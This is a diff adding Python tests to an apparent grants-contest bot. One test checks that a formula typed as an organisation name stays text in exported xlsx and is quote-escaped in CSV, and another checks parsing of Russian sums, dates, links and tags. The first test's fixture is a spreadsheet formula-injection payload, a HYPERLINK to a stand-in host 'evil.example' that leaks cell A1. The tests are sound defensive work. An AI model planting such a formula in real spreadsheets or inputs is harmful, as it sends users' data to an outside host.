@@ -303,3 +303,42 @@ def test_the_demo_seeds_the_example_contests() -> None:
     root = Path(__file__).parents[1]
     demo = root / "bot" / "demo" / "grants.example.csv"
     assert demo.read_bytes() == (root / "grants.example.csv").read_bytes()
+
+
+async def test_an_organisation_typed_as_a_formula_stays_text_in_the_workbook(
+    sqlite_db: Database, config: Config
+) -> None:
+    now = datetime.now(UTC)
+    contest = await contests.add(
+        sqlite_db,
+        contests.ContestDraft(name="=1+1", deadline=now + timedelta(days=9), zone="Europe/Moscow"),
+        by="test",
+    )
+    member = await people.resolve(sqlite_db, "telegram", "8103", language_hint="ru")
+    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"НКО")'
+    application, new = await applications.prepare(sqlite_db, contest.id, member.id, hostile)
+    assert new
+    assert application.organisation == hostile  # kept as typed
+    period = open_quarter(now, config.library.zone)
+    report = await document.prepare(sqlite_db, config, period, now=now + timedelta(seconds=1))
+    book = load_workbook(BytesIO(document.to_xlsx(report)))
+    row = next(book["Гранты"].iter_rows(min_row=3))
+    assert (row[0].value, row[2].value) == ("=1+1", hostile)
+    assert (row[0].data_type, row[2].data_type) == ("s", "s")
+    csv_text = document.to_csv_files(report)["Гранты.csv"].decode("utf-8-sig")
+    assert "'=HYPERLINK" in csv_text
+
+
+def test_sums_and_dates_as_staff_type_them() -> None:
+    assert contests.read_amounts("от 100 000 до 3 000 000") == (100_000, 3_000_000)
+    assert contests.read_amounts("50 тыс – 1,5 млн") == (50_000, 1_500_000)
+    assert contests.read_amounts("до 500 000 ₽") == (None, 500_000)
+    assert contests.read_amounts("от 20000") == (20_000, None)
+    assert contests.read_amount("450 000,00") == 450_000
+    with pytest.raises(contests.Invalid):
+        contests.read_amounts("много")
+    moment = contests.read_moment("31.03.2027", "Asia/Yekaterinburg", end_of_day=True)
+    assert moment == datetime(2027, 3, 31, 18, 59, tzinfo=UTC)
+    with pytest.raises(contests.Invalid):
+        contests.read_link("ftp://example.org/x")
+    assert contests.read_tags("Культура; #молодёжь, культура") == ("культура", "молодёжь")
